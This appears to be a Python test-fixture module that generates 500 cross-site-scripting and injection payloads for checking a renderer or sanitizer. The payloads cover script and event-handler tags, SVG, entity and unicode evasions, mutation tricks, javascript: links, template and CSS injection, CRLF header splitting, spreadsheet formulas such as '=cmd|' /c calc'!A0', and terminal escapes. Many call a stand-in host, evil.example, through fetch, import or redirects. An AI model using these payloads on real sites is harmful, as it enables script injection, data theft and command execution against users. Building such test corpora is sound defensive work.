"""Five hundred texts that would do something if any page took them for more than text.

Whatever of them runs sets `window.__x`, opens a dialog or asks a host of its own for something. They are put together
from contexts and deeds, so that each way into a page meets each way of doing harm.
"""

import itertools
from collections.abc import Iterator

HOST = "evil.example"
DEEDS = ("window.__x=1", "alert(1)", f"fetch('//{HOST}/f')", f"location='//{HOST}/l'", f"import('//{HOST}/m.js')")
FIRST = DEEDS[0]
COUNT = 500

SCRIPTS = (
    "<script>{deed}</script>", "<SCRIPT>{deed}</SCRIPT>", "<script type=module>{deed}</script>",
    "<script\t>{deed}</script\n>", "<script/x>{deed}</script>", "<scr<script>ipt>{deed}</scr</script>ipt>",
    "<<script>{deed}//<</script>", "<script>{deed}", "<script x='>' >{deed}</script>", "\x00<script>{deed}</script>",
    "<scr\x00ipt>{deed}</scr\x00ipt>", "<template><script>{deed}</script></template>",
    f"<script src=//{HOST}/a.js></script>", f"<script src='data:text/javascript,{FIRST}'></script>",
    "<noscript><p title='</noscript><script>{deed}</script>'>",
)  # fmt: skip
HANDLED = (
    "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "details open ontoggle",
    "video src=x onerror", "audio src=x onerror", "marquee onstart", "select autofocus onfocus",
    "textarea autofocus onfocus", "iframe onload", "object data=x onerror", "style onload", "link rel=stylesheet onload",
    "p tabindex=1 autofocus onfocus", "div style=animation-name:x onanimationstart", "embed src=x onload",
    "video autoplay onplay", "button popovertarget=x onclick", "div contenteditable autofocus onfocus",
)  # fmt: skip
GAPS = ("<{tag}={deed}>", "<{slashed}={deed}//", "<{tag}\n=\n'{deed}' x", '<x ><{tag}="{deed}" />')
SVG = (
    "<svg><script>{deed}</script></svg>", "<svg><script href=data:,{deed} />", "<svg><animate onbegin={deed} dur=1s>",
    "<svg><a xlink:href=javascript:{deed}><text y=20>x</text></a></svg>", "<svg><set onbegin={deed} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={deed}>#x'/></svg>", "<svg><style>*{{}}</style><g onload={deed}>",
    "<svg><foreignObject><img src=x onerror={deed}></foreignObject></svg>", "<svg><title><img src=x onerror={deed}>",
    "<math><a href=javascript:{deed}>x</a></math>", "<math><mtext><img src=x onerror={deed}></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{deed}>x", "<svg><image href=x onerror={deed}>",
    f"<svg><image href=//{HOST}/s.png>", f"<svg><feImage href=//{HOST}/f.svg>",
)  # fmt: skip
LEAVINGS = (
    '"', "'", "`", '">', "'>", '"/>', "-->", "</textarea>", "</title>", "</style>", "</script>", "</select>", "]]>",
    "</pre></code>", "</template>", "</noscript>", "</svg>", "</math>", "\\\">", "%22%3E",
)  # fmt: skip
ENTERINGS = (" onfocus={deed} autofocus x=", "<img src=x onerror={deed}>", "<script>{deed}</script>")
ENTITIES = (
    "&lt;script&gt;{deed}&lt;/script&gt;", "&#60;img src=x onerror={deed}&#62;", "&#x3c;script&#x3e;{deed}",
    "&#0000060script&#0000062{deed}", "<img src=x onerror=&#119;&#105;ndow.__x=1>", "&amp;lt;script&amp;gt;{deed}",
    "<a href=&#106;avascript:{deed}>x</a>", "<a href='java&#09;script:{deed}'>x</a>", "&ltscript&gt{deed}&lt/script&gt",
    "<a href=javascript&colon;{deed}>x</a>", "\\u003cscript\\u003e{deed}\\u003c/script\\u003e", "\\x3cimg src=x onerror={deed}\\x3e",
    "%3Cscript%3E{deed}%3C/script%3E", "+ADw-script+AD4-{deed}+ADw-/script+AD4-", "＜script＞{deed}＜/script＞",
)  # fmt: skip
MUTATIONS = (
    "<noscript><style></noscript><img src=x onerror={deed}></style>", "<svg></p><style><a id='</style><img src=x onerror={deed}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={deed}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={deed}>", "<listing>&lt;img src=x onerror={deed}&gt;</listing>",
    "<p id='</p><img src=x onerror={deed}>'>", "<svg><desc><![CDATA[</desc><script>{deed}</script>]]></svg>",
    "<xmp><p title='</xmp><img src=x onerror={deed}>'>", "<textarea></textarea\t><img src=x onerror={deed}>",
    "<select><template><img src=x onerror={deed}></template></select>", "<!--><img src=x onerror={deed}>-->", "<!--!><svg onload={deed}>-->",
    "<?xml version='1.0'?><img src=x onerror={deed}>", "<table><td background=javascript:{deed}>", "<plaintext><img src=x onerror={deed}>",
)  # fmt: skip
SCHEMES = (
    "javascript:{deed}", "JaVaScRiPt:{deed}", " javascript:{deed}", "java\tscript:{deed}", "\x01javascript:{deed}",
    "javascript://x%0a{deed}", "vbscript:{deed}", "data:text/html,<script>{deed}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "view-source:javascript:{deed}",
    "javascript&#58;{deed}", "feed:javascript:{deed}",
)  # fmt: skip
LINKS = ("{url}", "[x]({url})", "[x](<{url}>)", "<{url}>", "[x][1]\n\n[1]: {url}", "<a href='{url}'>x</a>")
IMAGES = (
    f"![x](https://{HOST}/i.png)", f"![x](//{HOST}/i.png)", f"![x][1]\n\n[1]: https://{HOST}/r.png", f"<img src=https://{HOST}/h.png>",
    f"<img srcset='https://{HOST}/2x.png 2x'>", f"[![x](https://{HOST}/n.png)](https://{HOST}/)", f"<picture><source srcset=//{HOST}/p.png><img>",
    f"![x](data:image/svg+xml,<svg onload={FIRST}>)", f'![x](x" onerror="{FIRST})', f"<video poster=//{HOST}/v.png src=//{HOST}/v>",
    f"<link rel=prefetch href=//{HOST}/pre>", f"<link rel=dns-prefetch href=//{HOST}>", f"<meta http-equiv=refresh content='0;url=//{HOST}/m'>",
    f"<base href=//{HOST}/>", f"<iframe src=//{HOST}/if></iframe>", f"<iframe srcdoc='<script>parent.{FIRST}</script>'></iframe>",
    f"<object data=//{HOST}/o></object>", f"<embed src=//{HOST}/e>", f"<form action=//{HOST}/><button autofocus>x", f"<audio src=//{HOST}/a autoplay>",
    f"<track src=//{HOST}/t default>", f"<input type=image src=//{HOST}/in>", f"<body background=//{HOST}/b>", f"<a href=x ping=//{HOST}/ping>x</a>",
)  # fmt: skip
FENCES = (
    "```\n<script>{deed}</script>", "```html\n<img src=x onerror={deed}>\n", "~~~\n```\n<script>{deed}</script>\n```",
    "```\"><img src=x onerror={deed}>\nx\n```", "```html onload={deed}\nx\n```", "`<img src=x onerror={deed}>", "``` <script>{deed}</script> ```",
    "    <script>{deed}</script>", "> <img src=x onerror={deed}>", "| <img src=x onerror={deed}> |\n|-|\n| x |", "* <svg onload={deed}>",
    "# <svg onload={deed}>", "~~<img src=x onerror={deed}>~~", "**<b onclick={deed}>**", "<https://x.example/\"onmouseover={deed}>",
)  # fmt: skip
TEMPLATES = (
    "{{{{constructor.constructor('{deed}')()}}}}", "{{{{7*7}}}}", "${{{deed}}}", "<%= {deed} %>", "{{% debug %}}", "{{% include 'base.html' %}}",
    "#{{{deed}}}", "[[{deed}]]", "{{{{{{{deed}}}}}}}", "{{# x #}}{{% load static %}}", "$name $token ${{token}} $$", "%(name)s %s %n {{0.__class__}}",
    "__NUMBER__ __name__", "<x-if v-html=\"'<img src=x onerror={deed}>'\">", "<div ng-app>{{{{$eval.constructor('{deed}')()}}}}</div>",
    "<div hx-get=//evil.example hx-trigger=load data-refresh=//evil.example>x</div>", "<a data-method=delete href=/sign-out/>x</a>",
    "<div id=preset-texts>{{}}</div>", "<template data-blank><img src=x onerror={deed}></template>", "<dialog open><form method=dialog>x</dialog>",
)  # fmt: skip
STYLES = (
    f"<style>@import '//{HOST}/c.css';</style>", f"<style>*{{background:url(//{HOST}/u)}}</style>", f"<p style=background:url(//{HOST}/s)>x</p>",
    f"</style><style>a{{color:red;background:url(//{HOST}/z)}}", "<p style=width:expression({deed})>x</p>", "<p style='behavior:url(x.htc)'>x</p>",
    f"<link rel=stylesheet href=//{HOST}/l.css>", f"<style>@font-face{{font-family:x;src:url(//{HOST}/f.woff)}}*{{font-family:x}}</style>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>", f"<svg><style>@import//{HOST}/i.css</style></svg>",
)  # fmt: skip
UNICODE = (
    "\u202e<script>{deed}</script>", "\u2066<img src=x onerror={deed}>\u2069", "<\u200bscript>{deed}</script>", "\ufeff<script>{deed}</script>",
    "\u2028<script>{deed}</script>\u2029", "<ſcript>{deed}</ſcript>", "<ımg src=x onerror={deed}>", "\ud7ff<svg onload={deed}>", "\x85<svg onload={deed}>",
    "a\u0300\u0301<svg/onload={deed}>", "\U000e0001<svg onload={deed}>", "K<img src=x onerror={deed}>", "﹤script﹥{deed}", "ʺ><svg onload={deed}>",
    "İ\"><img src=x onerror={deed}>", "\x7f<svg onload={deed}>",
)  # fmt: skip
LINES = (
    "x\r\nSet-Cookie: x=1", f"x\r\nLocation: https://{HOST}/", "x\n\n<script>{deed}</script>", "x\r<script>{deed}</script>", "data: <svg onload={deed}>\n\n",
    "x%0d%0aX: 1", "\r\n\r\n<img src=x onerror={deed}>", "x\x0b<svg onload={deed}>", "x\x0c<svg onload={deed}>", "event: x\ndata: {{}}\n\n",
)  # fmt: skip
FORMULAS = (
    "$\\href{{javascript:{deed}}}{{x}}$", f"$\\includegraphics{{https://{HOST}/k.png}}$", "$\\htmlData{{onclick={deed}}}{{x}}$", "$$\\url{{javascript:{deed}}}$$",
    "\\(\\unicode{{<img src=x onerror={deed}>}}\\)", "$\\text{{<img src=x onerror={deed}>}}$", "$\\def\\x{{\\x\\x}}\\x$", "\\[\\require{{html}}\\style{{x}}{{<svg onload={deed}>}}\\]",
)  # fmt: skip
SCRIPTED = (
    '</script><script>{deed}</script>', '"</script><svg onload={deed}>', '"}};{deed};//', "\\\"}}];{deed}//", "<!--<script>{deed}</script>", "]]></script><img src=x onerror={deed}>",
    '\u2028"}};{deed};//', "{{\"__proto__\": {{\"x\": \"<img src=x onerror={deed}>\"}}}}", "');{deed};//", "\\');{deed};//", "*/{deed}/*", "-{deed}-",
)  # fmt: skip
FILES = (
    "<img src=x onerror={deed}>.csv", "a\"; filename=\"x.html", "../../static/site.js", "x.csv\r\nContent-Type: text/html", "x.html\x00.csv",
    "a';{deed};'.json", "..\\..\\x.svg", "con.png", "\u202egpj.exe", "x.svg#<svg onload={deed}>",
)  # fmt: skip
CELLS = (
    "=HYPERLINK(\"//evil.example\",\"x\")", "=cmd|'/c calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"//evil.example/w\")",
    "=IMPORTXML(\"//evil.example\",\"//a\")", "\"=1+1\",\"<svg onload={deed}>\"",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;//evil.example\x07x\x1b]8;;\x07", "\x1b[31mred", "\x9b31m", "\x1bP+q\x1b\\", "\x1b]52;c;eA==\x07",
    "\b\b\b\b<svg onload={deed}>",
)  # fmt: skip


def _all() -> Iterator[str]:
    """Families in turn, so that any stretch of the corpus has something of each."""
    deeds = itertools.cycle(DEEDS)
    simple = (SCRIPTS, SVG, ENTITIES, MUTATIONS, FENCES, TEMPLATES, STYLES, UNICODE, LINES, FORMULAS, SCRIPTED, FILES)
    again = (SCRIPTS, SVG, MUTATIONS, ENTITIES, FENCES, UNICODE, TEMPLATES, SCRIPTS)
    families = [
        *([_filled(text, next(deeds)) for text in texts] for texts in (*simple, CELLS, TERMINAL, *again)),
        [_handled(gap, tag, next(deeds)) for gap in GAPS for tag in HANDLED],
        [left + _filled(entered, next(deeds)) for entered in ENTERINGS for left in LEAVINGS],
        [link.replace("{url}", _filled(scheme, next(deeds))) for link in LINKS for scheme in SCHEMES],
        list(IMAGES),
    ]
    for together in itertools.zip_longest(*families):
        yield from (text for text in together if text is not None)


def _filled(text: str, deed: str) -> str:
    if "{deed}" not in text and "{{" not in text:
        return text
    return text.replace("{{", "{").replace("}}", "}").replace("{deed}", deed)


def _handled(gap: str, tag: str, deed: str) -> str:
    return gap.replace("{tag}", tag).replace("{slashed}", tag.replace(" ", "/")).replace("{deed}", deed)


PAYLOADS = tuple(itertools.islice(dict.fromkeys(_all()), COUNT))
PIECE = 7  # characters: a tag is torn apart wherever a piece of a stream may end


def pieces(text: str) -> list[str]:
    return [text[place : place + PIECE] for place in range(0, len(text), PIECE)]
